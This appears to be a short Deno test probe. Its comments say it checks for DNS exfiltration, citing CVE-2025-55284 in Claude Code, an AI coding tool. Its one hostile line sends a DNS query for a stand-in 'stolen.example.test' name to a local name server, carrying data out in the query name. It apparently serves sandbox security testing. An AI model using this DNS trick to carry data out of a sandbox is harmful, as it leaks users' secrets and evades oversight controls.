// Tries: a question to a name server, which carries data out in the name.
// Origin: DNS exfiltration; CVE-2025-55284 (Claude Code).

const asked = Deno.resolveDns("stolen.example.test", "A", { nameServer: { ipAddr: "127.0.0.1", port: input.udp } }).catch(String);
return await Promise.race([asked, new Promise((resolve) => setTimeout(resolve, 500))]);
